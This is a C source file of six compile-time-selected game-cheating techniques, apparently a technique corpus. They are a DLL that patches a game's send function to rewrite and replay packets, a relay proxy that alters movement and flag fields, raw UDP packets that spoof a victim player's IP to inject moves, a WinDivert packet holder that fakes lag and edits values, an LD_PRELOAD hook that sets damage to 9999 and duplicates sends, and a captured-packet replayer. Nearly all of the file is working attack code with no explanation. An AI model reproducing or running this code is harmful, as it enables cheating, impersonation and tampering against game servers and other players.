/* technique wpe windows at=edited_send,replay libs=ws2_32
   technique relay windows at=shovel,rewrite libs=ws2_32
   technique rawspoof windows at=emit libs=ws2_32
   technique divert windows at=pump,alter stub=WinDivert:WinDivertOpen,WinDivertRecv,WinDivertSend,WinDivertHelperCalcChecksums
   technique preloadsend linux-library at=send,sendto
   technique resender linux at=replay_all,capture */
#define _GNU_SOURCE
#include "common.h"

#if defined T_wpe
typedef struct { BYTE find[16], mask[16], put[16], length; } Filter;
typedef struct { int length; char data[1024]; } Packet;
static Filter filters[] = {{{0x2c, 0, 0x05}, {255, 0, 255}, {0x2c, 0, 0x63}, 3}, {{0x71, 0x01}, {255, 255}, {0x71, 0}, 2}};
static Packet kept[32];
static int kept_count, recording = 1;
static SOCKET game_socket;
APART int WSAAPI edited_send(SOCKET s, const char *data, int n, int flags) {
    char copy[4096];
    game_socket = s;
    if (n > (int)sizeof copy) return F(send)(s, data, n, flags);
    memcpy(copy, data, n);
    for (int f = 0; f < 2; f++)
        for (int i = 0, hit = n >= filters[f].length; i < filters[f].length && hit; i++) {
            hit = !((copy[i] ^ filters[f].find[i]) & filters[f].mask[i]);
            if (hit && i == filters[f].length - 1) memcpy(copy, filters[f].put, filters[f].length);
        }
    if (recording && n <= 1024 && kept_count < 32) {
        kept[kept_count].length = n;
        memcpy(kept[kept_count++].data, copy, n);
    }
    return F(send)(s, copy, n, flags);
}
APART DWORD WINAPI replay(LPVOID times) {
    for (int t = 0; t < (int)(INT_PTR)times; t++)
        for (int i = 0; i < kept_count; i++) {
            F(send)(game_socket, kept[i].data, kept[i].length, 0);
            Sleep(35);
        }
    return 0;
}
static void patch_call(BYTE *game) {
    DWORD old;
    void **slot = (void **)(game + 0x5e2340);
    F(VirtualProtect)(slot, sizeof *slot, PAGE_READWRITE, &old);
    *slot = edited_send;
    F(VirtualProtect)(slot, sizeof *slot, old, &old);
}
BOOL WINAPI DllMain(HINSTANCE h, DWORD why, LPVOID r) {
    if (why == DLL_PROCESS_ATTACH) patch_call((BYTE *)GetModuleHandleA(0));
    return TRUE;
}
int main(void) {
    patch_call((BYTE *)GetModuleHandleA(0));
    Sleep(60000);
    recording = 0;
    CreateThread(0, 0, replay, (LPVOID)50, 0, 0);
    return 0;
}

#elif defined T_relay
typedef struct { SOCKET client, server; } Pair;
static SOCKET dial(const char *host, int port) {
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port), .sin_addr.s_addr = inet_addr(host)};
    SOCKET s = F(socket)(AF_INET, SOCK_STREAM, 0);
    return F(connect)(s, (void *)&a, sizeof a) ? INVALID_SOCKET : s;
}
APART int rewrite(BYTE *p, int n, int to_server) {
    for (int at = 0; at + 4 <= n;) {
        int length = p[at] | p[at + 1] << 8, opcode = p[at + 2] | p[at + 3] << 8;
        if (length < 4 || at + length > n) break;
        if (to_server && opcode == 0x00f3 && length >= 20) *(float *)(p + at + 8) *= 3.0f;
        if (!to_server && opcode == 0x0412 && length >= 8) *(DWORD *)(p + at + 4) |= 0x80000000;
        at += length;
    }
    return n;
}
APART int shovel(SOCKET from, SOCKET to, int to_server) {
    BYTE buffer[8192];
    int n = F(recv)(from, (char *)buffer, sizeof buffer, 0);
    if (n <= 0) return 0;
    n = rewrite(buffer, n, to_server);
    return F(send)(to, (char *)buffer, n, 0) == n;
}
static void serve(Pair *p) {
    for (int alive = 1; alive;) {
        fd_set set;
        FD_ZERO(&set);
        FD_SET(p->client, &set);
        FD_SET(p->server, &set);
        if (F(select)(0, &set, 0, 0, 0) <= 0) break;
        if (FD_ISSET(p->client, &set)) alive &= shovel(p->client, p->server, 1);
        if (FD_ISSET(p->server, &set)) alive &= shovel(p->server, p->client, 0);
    }
    closesocket(p->client);
    closesocket(p->server);
}
int main(int argc, char **argv) {
    WSADATA w;
    WSAStartup(0x202, &w);
    struct sockaddr_in here = {.sin_family = AF_INET, .sin_port = htons(7171), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    SOCKET s = F(socket)(AF_INET, SOCK_STREAM, 0);
    F(bind)(s, (void *)&here, sizeof here);
    F(listen)(s, 2);
    for (;;) {
        Pair p = {F(accept)(s, 0, 0), dial(argc > 1 ? argv[1] : "203.0.113.20", 7171)};
        serve(&p);
    }
}

#elif defined T_rawspoof
#pragma pack(push, 1)
typedef struct { BYTE vl, tos; WORD length, id, frag; BYTE ttl, proto; WORD sum; DWORD from, to; } Ip;
typedef struct { WORD from, to, length, sum; } Udp;
typedef struct { DWORD marker; WORD sequence; BYTE command, slot; short x, y, z; } Move;
#pragma pack(pop)
static WORD checksum(const void *data, int n) {
    const WORD *w = data;
    DWORD sum = 0;
    for (; n > 1; n -= 2) sum += *w++;
    sum = (sum >> 16) + (sum & 0xffff);
    return (WORD)~(sum + (sum >> 16));
}
APART int emit(SOCKET raw, DWORD victim, DWORD server, WORD port, const Move *m) {
    struct { Ip ip; Udp udp; BYTE payload[sizeof(Move)]; } p = {0};
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = server};
    p.ip.vl = 0x45;
    p.ip.length = htons(sizeof p);
    p.ip.ttl = 64;
    p.ip.proto = IPPROTO_UDP;
    p.ip.from = victim;
    p.ip.to = server;
    p.ip.sum = checksum(&p.ip, sizeof p.ip);
    p.udp.from = htons(27005);
    p.udp.to = htons(port);
    p.udp.length = htons(sizeof p.udp + sizeof *m);
    memcpy(p.payload, m, sizeof *m);
    return F(sendto)(raw, (char *)&p, sizeof p, 0, (void *)&to, sizeof to);
}
int main(int argc, char **argv) {
    WSADATA w;
    DWORD on = 1;
    WSAStartup(0x202, &w);
    SOCKET raw = F(socket)(AF_INET, SOCK_RAW, IPPROTO_RAW);
    F(setsockopt)(raw, IPPROTO_IP, 2, (char *)&on, sizeof on);
    for (WORD i = 0; i < 400; i++) {
        Move m = {0xffffffff, i, 0x07, (BYTE)atoi(argv[3]), 0, 0, -4000};
        if (emit(raw, inet_addr(argv[1]), inet_addr(argv[2]), 27015, &m) < 0) return WSAGetLastError();
        Sleep(15);
    }
    return 0;
}

#elif defined T_divert
HANDLE WinDivertOpen(const char *, int, INT16, UINT64);
BOOL WinDivertRecv(HANDLE, VOID *, UINT, UINT *, void *);
BOOL WinDivertSend(HANDLE, const VOID *, UINT, UINT *, const void *);
BOOL WinDivertHelperCalcChecksums(VOID *, UINT, void *, UINT64);
typedef struct { BYTE bytes[80]; } Address;
static struct { UINT length; Address where; BYTE data[1600]; } held[256];
static int held_count;
APART int alter(BYTE *packet, UINT n) {
    BYTE *game = packet + (packet[0] & 15) * 4 + 8;
    if (game + 12 > packet + n || game[0] != 0x84 || game[5] != 0x1b) return 0;
    *(WORD *)(game + 10) = 0x7fff;
    return 1;
}
APART void pump(HANDLE divert) {
    static BYTE packet[1600];
    Address where;
    UINT n;
    while (WinDivertRecv(divert, packet, sizeof packet, &n, &where)) {
        if (F(GetKeyState)('X') < 0 && held_count < 256) {
            held[held_count].length = n;
            held[held_count].where = where;
            memcpy(held[held_count++].data, packet, n);
            continue;
        }
        for (int i = 0; i < held_count; i++) WinDivertSend(divert, held[i].data, held[i].length, 0, &held[i].where);
        held_count = 0;
        if (alter(packet, n)) WinDivertHelperCalcChecksums(packet, n, &where, 0);
        WinDivertSend(divert, packet, n, 0, &where);
    }
}
int main(void) {
    HANDLE divert = WinDivertOpen("outbound and udp.DstPort >= 27000 and udp.DstPort <= 27050", 0, 0, 0);
    if (divert == INVALID_HANDLE_VALUE) return 1;
    pump(divert);
    return 0;
}

#elif defined T_preloadsend
#include <dlfcn.h>
#include <sys/socket.h>
#include <netinet/in.h>
static ssize_t (*real_send)(int, const void *, size_t, int);
static ssize_t (*real_sendto)(int, const void *, size_t, int, const struct sockaddr *, socklen_t);
__attribute__((constructor)) static void find(void) {
    real_send = dlsym(RTLD_NEXT, "send");
    real_sendto = dlsym(RTLD_NEXT, "sendto");
}
static void tamper(uint8_t *p, size_t n) {
    if (n > 9 && p[0] == 0x0b && p[1] == 0x02) {
        uint32_t damage = 9999;
        memcpy(p + 5, &damage, 4);
    }
}
APART ssize_t send(int fd, const void *data, size_t n, int flags) {
    uint8_t *copy = malloc(n);
    memcpy(copy, data, n);
    tamper(copy, n);
    ssize_t sent = real_send(fd, copy, n, flags);
    if (getenv("DUPE") && n && copy[0] == 0x31) real_send(fd, copy, n, flags);
    free(copy);
    return sent;
}
APART ssize_t sendto(int fd, const void *data, size_t n, int flags, const struct sockaddr *to, socklen_t size) {
    uint8_t copy[2048];
    if (n > sizeof copy) return real_sendto(fd, data, n, flags, to, size);
    memcpy(copy, data, n);
    tamper(copy, n);
    return real_sendto(fd, copy, n, flags, to, size);
}

#elif defined T_resender
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>
struct frame { int length; uint8_t data[1600]; };
static struct frame frames[128];
static int open_link(const char *name, struct sockaddr_ll *link) {
    int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
    *link = (struct sockaddr_ll){.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_ifindex = if_nametoindex(name)};
    return fd >= 0 && !bind(fd, (void *)link, sizeof *link) ? fd : -1;
}
APART int capture(int fd, uint16_t port, int seconds) {
    time_t end = time(0) + seconds;
    int n = 0;
    while (time(0) < end && n < 128) {
        struct frame *f = &frames[n];
        f->length = (int)recv(fd, f->data, sizeof f->data, 0);
        if (f->length < 42 || f->data[23] != 17) continue;
        if (f->data[36] == port >> 8 && f->data[37] == (port & 255)) n++;
    }
    return n;
}
APART void replay_all(int fd, struct sockaddr_ll *link, int n, int times) {
    while (times--)
        for (int i = 0; i < n; i++) {
            frames[i].data[42 + 4]++;
            frames[i].data[40] = frames[i].data[41] = 0;
            sendto(fd, frames[i].data, frames[i].length, 0, (void *)link, sizeof *link);
            usleep(16000);
        }
}
int main(int argc, char **argv) {
    struct sockaddr_ll link;
    int fd = open_link(argc > 1 ? argv[1] : "eth0", &link);
    if (fd < 0) return perror("link"), 1;
    int n = capture(fd, 7777, 10);
    printf("replaying %d packets of the match\n", n);
    replay_all(fd, &link, n, 20);
    return 0;
}
#endif
